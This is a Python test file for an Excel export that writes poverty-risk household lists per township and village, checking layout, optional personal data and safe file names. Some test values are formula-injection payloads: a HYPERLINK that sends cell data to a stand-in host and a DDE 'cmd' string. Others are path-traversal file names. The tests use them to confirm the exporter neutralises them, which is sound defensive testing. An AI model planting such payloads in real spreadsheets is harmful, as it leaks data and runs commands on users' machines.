"""Excel workbooks per township; personal data only there, and only when given."""

from __future__ import annotations

import pandas as pd
from openpyxl import load_workbook

from fanpin.workflow import EXCEL_HEADERS, write_workbooks


def _alerts():
    return pd.DataFrame(
        {
            "household_id": ["01", "02", "03", "04"], "county": ["甲县"] * 4,
            "township": ["乙镇", "乙镇", "乙镇", "丁镇"],
            "village": ["一村", "二村", "一村", "三村"], "rank": [1, 2, 3, 1],
            "risk_score": [0.5, 0.4, 0.3, 0.2], "risk_level": ["高", "中", "中", "中"],
            "reasons": ["医疗自付 32,400 元"] * 4,
            "deadline": pd.to_datetime(["2025-02-01"] * 4),
        }
    )  # fmt: skip


def _header(ws):
    """The column headers (row 2, under the title) without their line breaks."""
    return [str(c.value).replace("\n", "") if c.value else None for c in ws[2]]


def test_workbook_per_township_sheet_per_village(tmp_path):
    paths = write_workbooks(_alerts(), tmp_path)
    assert sorted(p.name for p in paths) == ["丁镇.xlsx", "乙镇.xlsx"]
    wb = load_workbook(tmp_path / "乙镇.xlsx")
    assert wb.sheetnames == ["一村", "二村"]
    ws = wb["一村"]
    assert "乙镇" in ws["A1"].value and "村：一村" in ws["A1"].value  # the title
    header = _header(ws)
    assert header[:2] == ["序号", "户编码"]
    assert set(header) <= set(EXCEL_HEADERS.values())
    assert header[-5:] == ["核查结果", "认定类别", "核查日期", "核查人", "备注"]
    assert ws.freeze_panes == "C3"
    assert ws.column_dimensions["A"].width > 0
    assert [ws.cell(row=r, column=2).value for r in (3, 4)] == ["01", "03"]
    assert ws.max_row == 4


def test_pii_only_when_given(tmp_path):
    write_workbooks(_alerts(), tmp_path / "plain")
    ws = load_workbook(tmp_path / "plain" / "乙镇.xlsx")["一村"]
    assert "户主姓名" not in _header(ws)
    pii = pd.DataFrame({"household_id": ["01"], "head_name": ["张三"],
                        "phone": ["13800000000"]})  # fmt: skip
    write_workbooks(_alerts(), tmp_path / "pii", pii=pii)
    ws = load_workbook(tmp_path / "pii" / "乙镇.xlsx")["一村"]
    header = _header(ws)
    assert "户主姓名" in header and "联系电话" in header
    assert ws.cell(row=3, column=header.index("户主姓名") + 1).value == "张三"


# -- the writer: strings, names, control characters, many villages -------------
import warnings  # noqa: E402

import pytest  # noqa: E402

from fanpin.exceptions import DataRepairWarning, FanpinWarning  # noqa: E402
from fanpin.workflow import (  # noqa: E402
    workbook_name,
    write_township_workbook,
)
from fanpin.workflow._export import MAX_VILLAGE_SHEETS  # noqa: E402

FORMULA_VILLAGE = '=HYPERLINK("http://x.example/?"&A1,"点击查看")'


def _cells(path):
    wb = load_workbook(path)
    return [
        (ws.title, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row
    ]


def test_no_cell_is_a_formula_and_numbers_stay_numbers(tmp_path):
    a = _alerts()
    a.loc[0, "village"] = FORMULA_VILLAGE
    a.loc[1, "reasons"] = "+cmd|' /C calc'!A0"
    a.loc[2, "reasons"] = "-2+3"
    pii = pd.DataFrame({"household_id": ["01", "02"], "head_name": ["@SUM(1)", "张三"],
                        "phone": ["13800000000", None]})  # fmt: skip
    write_workbooks(a, tmp_path, pii=pii)
    cells = _cells(tmp_path / "乙镇.xlsx")
    assert cells and all(c.data_type != "f" for _, c in cells)
    values = [c.value for _, c in cells]
    assert "+cmd|' /C calc'!A0" in values
    # the village is the sheet's title line (and its name), as text
    assert any(isinstance(v, str) and FORMULA_VILLAGE in v for v in values)
    for _, c in cells:
        if isinstance(c.value, str):
            assert c.data_type == "s"
        if c.value in (FORMULA_VILLAGE, "-2+3", "@SUM(1)"):
            assert c.quotePrefix  # stays text when a cadre edits it
    col = next(c.column for _, c in cells if c.value == "风险\n概率")
    scores = [c for _, c in cells if c.column == col and c.row > 2]
    assert scores and all(isinstance(c.value, float) for c in scores)  # numbers
    assert all(c.number_format == "0.0%" for c in scores)  # shown as 50.0%


def test_control_characters_cleaned_with_a_warning_naming_the_column(tmp_path):
    a = _alerts()
    a.loc[3, "village"] = "三村\x1b"
    pii = pd.DataFrame({"household_id": ["01"], "head_name": ["王秘密\x0b"]})
    with pytest.warns(DataRepairWarning) as rec:
        write_workbooks(a, tmp_path, pii=pii)
    text = " ".join(str(w.message) for w in rec)
    assert "'户主姓名'" in text and "'村'" in text and "王秘密" not in text
    values = [c.value for _, c in _cells(tmp_path / "乙镇.xlsx")]
    assert "王秘密" in values
    assert load_workbook(tmp_path / "丁镇.xlsx").sheetnames == ["三村"]


def test_phone_numbers_in_place_names_masked_only_where_they_are(tmp_path):
    a = _alerts()
    a.loc[1, "village"] = "二村 139-8765-4321"
    a.loc[3, "reasons"] = "=1+1 医疗自付"  # looks like a formula: text, not masked
    with pytest.warns(DataRepairWarning) as rec:
        write_workbooks(a, tmp_path)
    warned = [str(w.message) for w in rec if issubclass(w.category, DataRepairWarning)]
    assert len(warned) == 1 and "乙镇.xlsx" in warned[0] and "'村'" in warned[0]
    assert "8765" not in warned[0]
    wb = load_workbook(tmp_path / "乙镇.xlsx")
    assert wb.sheetnames == ["一村", "二村 ###-####-####"]
    values = [c.value for _, c in _cells(tmp_path / "丁镇.xlsx")]
    assert "=1+1 医疗自付" in values  # kept as text (a quote prefix, no formula)


@pytest.mark.parametrize(
    ("town", "name"),
    [("..", "未填乡镇.xlsx"), ("CON", "CON_.xlsx"), ("nul.txt", "nul.txt_.xlsx"),
     (".hidden", "hidden.xlsx"), ("a/b\\c:d", "a_b_c_d.xlsx"), ("  镇 . ", "镇.xlsx")],
)  # fmt: skip
def test_safe_visible_workbook_names(tmp_path, town, name):
    a = _alerts().assign(township=town)
    paths = write_workbooks(a, tmp_path)
    assert [p.name for p in paths] == [name]
    assert paths[0].parent == tmp_path and paths[0].is_file()


def test_long_and_colliding_township_names(tmp_path):
    long = "很长的乡镇名" * 20  # 360 bytes in UTF-8
    a = _alerts()
    a["township"] = [long, long + "乙", "a/b", "a_b"]
    paths = write_workbooks(a, tmp_path)
    names = [p.name for p in paths]
    assert len({n.casefold() for n in names}) == 4  # nothing overwritten
    assert all(len(n.encode()) <= 200 for n in names)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(names)
    assert workbook_name("a_b", {"a_b"}) == "a_b_2.xlsx"


def test_many_villages_go_on_one_sheet(tmp_path):
    n = MAX_VILLAGE_SHEETS + 5
    rows = pd.DataFrame({"household_id": [f"{i:04d}" for i in range(n)],
                         "village": [f"{i:04d}村" for i in range(n)][::-1],
                         "rank": range(1, n + 1)})  # fmt: skip
    with pytest.warns(FanpinWarning, match="one sheet"):
        p = write_township_workbook(rows, tmp_path / "镇.xlsx")
    wb = load_workbook(p)
    assert wb.sheetnames == ["全部村"]
    ws = wb["全部村"]
    assert ws.max_row == n + 2
    col = _header(ws).index("村") + 1
    villages = [ws.cell(row=r, column=col).value for r in range(3, n + 3)]
    assert villages == sorted(villages)


def test_print_setup_and_same_bytes(tmp_path):
    for d in ("a", "b"):
        write_workbooks(_alerts().assign(discovered="2025-01-20"), tmp_path / d)
    assert (tmp_path / "a" / "乙镇.xlsx").read_bytes() == (
        tmp_path / "b" / "乙镇.xlsx"
    ).read_bytes()
    ws = load_workbook(tmp_path / "a" / "乙镇.xlsx")["一村"]
    assert ws.page_setup.orientation == "landscape"
    assert str(ws.page_setup.paperSize) == "9"  # A4
    assert ws.page_setup.fitToWidth in (1, None) and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$2"  # the title and the headers
    assert all(c.font.b for c in ws[2])
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        write_workbooks(_alerts(), tmp_path / "c")  # clean input: no warning
